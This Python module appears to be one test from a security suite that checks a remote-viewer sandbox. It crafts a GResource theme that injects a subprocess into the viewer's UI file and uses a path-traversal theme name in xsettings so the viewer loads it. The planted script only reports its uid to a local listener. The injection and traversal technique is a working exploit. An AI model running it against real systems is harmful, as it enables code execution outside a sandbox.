"""A granted user has the viewer take its windows, and what these call, from a theme in the directory for files."""

import struct
import subprocess

from attacks.clients import PORTS
from attacks.stage import HOME, TOOLS, VM, Stage

RECIPE = "succeeds"
STOPPED_BY = "viewer: where its sandbox has a directory of its user's, nobody gets past the directories of themes"
NEEDS = (*TOOLS, "xsettingsd", "gresource")
CONSOLE = f"{HOME}/Console"
WINDOW = "/org/virt-manager/virt-viewer/ui/virt-viewer.ui"
# A process that is described in the window's own text, and started when that is shown.
OBJECT = f"""
<object class="GSubprocess" type-func="g_subprocess_get_type" id="evil"><property name="argv">/bin/sh
{CONSOLE}/evil.sh</property></object></interface>"""
SIGNAL = '<signal name="style-set" handler="g_initable_init" object="evil" swapped="yes"/>'
# Reports as whom it runs, as the shared object does.
SCRIPT = """exec /usr/bin/python3 -ISc 'import os, socket
socket.create_connection(("127.0.0.1", 7777)).sendall(b"%d %d\\n" % (os.getuid(), os.getgid()))'
"""


def resources(path, content):
    """A file of GResource (GVDB) that holds one file: a table with one bucket and one item."""
    code = 5381
    for byte in path.encode():
        code = (code * 33 + byte) % 2**32
    key, table = 24 + 8 + 4 + 24, 24
    start = -(-(key + len(path)) // 8) * 8
    value = struct.pack("<II", len(content), 0) + content + b"\0" + b"\0(uuay)"
    item = struct.pack("<IIIHcxII", code, 2**32 - 1, key, len(path), b"v", start, start + len(value))
    head = struct.pack("<8sIIII", b"GVariant", 0, 0, table, key) + struct.pack("<III", 0, 1, 0)
    return (head + item + path.encode()).ljust(start, b"\0") + value


def site(client):
    client.site["vms"] = {VM: {"server": "mysrv", "tls_port": PORTS[VM], "allow": ["files"]}}


def attack(client):
    stage = Stage(client)
    client.used.callback(client.root, "rm", "-rf", CONSOLE)
    window = subprocess.run(["gresource", "extract", "/usr/bin/remote-viewer", WINDOW], capture_output=True, check=True)
    head, opened, rest = window.stdout.decode().partition('id="viewer">')
    text = (head + opened + SIGNAL + rest).replace("</interface>", OBJECT)
    stage.write(f"{CONSOLE}/evil.sh", SCRIPT)
    stage.write(f"{CONSOLE}/gtk-3.0/gtk.css", "")
    stage.write(f"{CONSOLE}/gtk-3.0/gtk.gresource", resources(WINDOW, text.encode()))
    stage.xsettings(f"../../..{CONSOLE}", setting="Net/ThemeName")
    stage.view()
    return stage.heard(patience=3)
